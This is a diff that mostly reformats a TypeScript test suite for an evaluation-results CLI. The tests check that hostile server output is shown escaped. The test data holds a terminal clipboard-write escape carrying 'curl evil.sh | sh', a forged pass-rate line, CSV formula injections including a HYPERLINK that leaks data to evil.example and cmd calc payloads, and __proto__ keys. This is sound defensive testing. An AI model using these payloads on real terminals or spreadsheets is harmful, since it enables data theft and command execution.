@@ -38,7 +38,16 @@ const RAW_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\
 
 function expectClean(text: string, where: string): void {
   const found = RAW_CONTROL.exec(text);
-  expect(found ? { where, at: found.index, char: `U+${(found[0].codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`, near: JSON.stringify(text.slice(Math.max(0, found.index - 40), found.index + 10)) } : null).toBeNull();
+  expect(
+    found
+      ? {
+          where,
+          at: found.index,
+          char: `U+${(found[0].codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`,
+          near: JSON.stringify(text.slice(Math.max(0, found.index - 40), found.index + 10)),
+        }
+      : null,
+  ).toBeNull();
   // No line of output was forged by the server.
   // eslint-disable-next-line no-control-regex -- an escape sequence before a forged line
   expect({ where, forged: /^(\s|\u001b\[[\d;]*[A-Za-z])*ok: pass rate 100\.0%/m.test(text) }).toEqual({ where, forged: false });
@@ -67,7 +76,10 @@ async function serve(runs: Record<string, RawRun>): Promise<TestServer> {
     if (run.error) return send(run.error.status, run.error.body);
     if (!match[2]) {
       const id = JSON.stringify(match[1]);
-      return send(200, `{"eval_run_uuid":${id},"eval_uuid":"e","status":"finished","created_at":"2026-01-01T00:00:00Z","updated_at":"2026-01-01T00:00:00Z","num_prompts":${run.items.length},"num_responses_scored":${run.items.length}}`);
+      return send(
+        200,
+        `{"eval_run_uuid":${id},"eval_uuid":"e","status":"finished","created_at":"2026-01-01T00:00:00Z","updated_at":"2026-01-01T00:00:00Z","num_prompts":${run.items.length},"num_responses_scored":${run.items.length}}`,
+      );
     }
     const limit = Number(url.searchParams.get('limit') ?? 100);
     const offset = Number(url.searchParams.get('offset') ?? 0);
@@ -79,20 +91,30 @@ const json = (value: unknown) => JSON.stringify(value);
 
 const HOSTILE_ITEMS = [
   json({ prompt_uuid: `p-osc${OSC52}`, content: `content ${HOSTILE}`, explanation: `explanation ${HOSTILE}`, is_passed: false, content_type: `text${C1}` }),
-  json({ prompt_uuid: 'p-fake', content: FAKE_OK, explanation: NEWLINE_OK, is_passed: false, thread_uuid: BIDI, next_prompt: { prompt_uuid: `n${OSC52}`, content: 'x' } }),
+  json({
+    prompt_uuid: 'p-fake',
+    content: FAKE_OK,
+    explanation: NEWLINE_OK,
+    is_passed: false,
+    thread_uuid: BIDI,
+    next_prompt: { prompt_uuid: `n${OSC52}`, content: 'x' },
+  }),
   json({ prompt_uuid: 'p-ok', content: 'fine', explanation: 'fine', is_passed: true }),
 ];
 
 /** Each cell a spreadsheet would run as a formula, in a different column. */
 const FORMULAS = {
   explanation: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
-  content: '+cmd|\' /C calc\'!A0',
-  prompt_uuid: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  content_type: '-2+3+cmd|\' /C calc\'!A0',
+  content: "+cmd|' /C calc'!A0",
+  prompt_uuid: "@SUM(1+1)*cmd|' /C calc'!A0",
+  content_type: "-2+3+cmd|' /C calc'!A0",
   thread_uuid: '\t=1+1',
   response_uuid: '\r=1+1',
 } as const;
-const FORMULA_ITEMS = [json({ ...FORMULAS, is_passed: false }), json({ prompt_uuid: 'plain', content: 'a - b = c', explanation: 'no formula here', is_passed: true })];
+const FORMULA_ITEMS = [
+  json({ ...FORMULAS, is_passed: false }),
+  json({ prompt_uuid: 'plain', content: 'a - b = c', explanation: 'no formula here', is_passed: true }),
+];
 
 const PROTO_ITEMS = [
   '{"prompt_uuid":"a","content_type":"__proto__","is_passed":true}',
@@ -128,7 +150,10 @@ beforeAll(async () => {
     deep: { items: DEEP_ITEMS },
     'api-error': {
       items: [],
-      error: { status: 400, body: json({ error: { code: `validation.invalid_request${OSC52}`, message: `bad request${FAKE_OK}${NEWLINE_OK}` }, request_id: `req${OSC52}` }) },
+      error: {
+        status: 400,
+        body: json({ error: { code: `validation.invalid_request${OSC52}`, message: `bad request${FAKE_OK}${NEWLINE_OK}` }, request_id: `req${OSC52}` }),
+      },
     },
   });
 });
@@ -167,7 +192,9 @@ describe("the server's text is shown escaped, never raw", () => {
     expect(table?.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
     expect(table?.stdout).toContain('text\\x9b31mred');
     expect(summary?.stdout).toContain('text\\x9b31mred');
-    expect((parseCSV(csv?.stdout ?? '') as string[][])[1]?.[9]).toContain('explanation \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\r\\x1b[2K\\x1b[32mok: pass rate');
+    expect((parseCSV(csv?.stdout ?? '') as string[][])[1]?.[9]).toContain(
+      'explanation \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\r\\x1b[2K\\x1b[32mok: pass rate',
+    );
     // JSON stays lossless: the escapes are JSON's own, so it parses back to the very strings the server sent.
     const items = JSON.parse(jsonOut?.stdout ?? '') as { explanation: string; thread_uuid: string | null }[];
     expect(items[0]?.explanation).toBe(`explanation ${HOSTILE}`);
@@ -242,7 +269,11 @@ describe('a content_type of __proto__', () => {
       cli(['summary', 'proto', '--format', 'markdown']),
     ]);
     expect(jsonRun.code).toBe(0);
-    const summary = JSON.parse(jsonRun.stdout) as { total: number; pass_rate: number; by_content_type: Record<string, { total: number; passed: number; failed: number; unscored: number; pass_rate: number | null }> };
+    const summary = JSON.parse(jsonRun.stdout) as {
+      total: number;
+      pass_rate: number;
+      by_content_type: Record<string, { total: number; passed: number; failed: number; unscored: number; pass_rate: number | null }>;
+    };
     expect(summary).toMatchObject({ total: 5, passed: 3, failed: 1, unscored: 1, pass_rate: 0.75 });
     const byType = summary.by_content_type;
     expect(Object.keys(byType)).toEqual(['__proto__', 'constructor', 'toString', 'text']);
